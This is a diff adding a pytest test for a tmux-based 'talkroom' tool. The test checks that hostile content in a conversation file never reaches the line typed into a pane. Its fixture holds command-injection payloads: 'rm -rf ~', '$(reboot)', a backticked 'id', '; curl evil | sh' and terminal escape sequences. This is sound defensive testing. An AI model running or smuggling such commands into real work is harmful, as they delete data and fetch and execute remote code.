@@ -294,3 +294,24 @@ def test_nudge_and_resume_deliver_again_pause_does_not(
         wait_for(lambda: len(lines(log)) == 3, 15, what="the delivery after resume")
     assert outcomes(talk.root, "beta") == ["delivered"] * 3
     assert len({r["assignment"] for r in receipts(talk.root)}) == 3
+
+
+def test_hostile_text_in_a_file_never_reaches_the_typed_line(
+    talk: Talk, tmux_server: TmuxServer, tmp_path: Path,
+) -> None:
+    pane, log = standin(tmux_server, tmp_path, "listener")
+    register(talk.root, tmux_server, "alpha", pane)
+    talk.root.conversations.mkdir(parents=True)
+    # A hand-written file: hostile topic, participants and body; next names alpha.
+    talk.root.conversation("evil").write_bytes(
+        b"---\ntopic: \"\\e]0;x\\a; rm -rf ~\"\nparticipants: alpha, $(reboot), `id`\n"
+        b"next: alpha\n---\n\nOpening -- $(reboot) @ 2026-05-27 16:22\nTurn 1/9\n\n"
+        b"; curl evil | sh\n\x1b[2J\n\nNEXT: alpha\n")
+    with watching(talk.root):
+        wait_for(lambda: lines(log), 15, what="the wake-up line")
+    (line,) = lines(log)
+    assert line.startswith("[talkroom] your turn in evil (turn 2/9): read ")
+    assert line.endswith("then run: talkroom reply evil --as alpha --next moderator --root "
+                         f"{talk.root.path}")
+    for hostile in ("reboot", "rm -rf", "curl", "`id`", "\x1b"):
+        assert hostile not in line
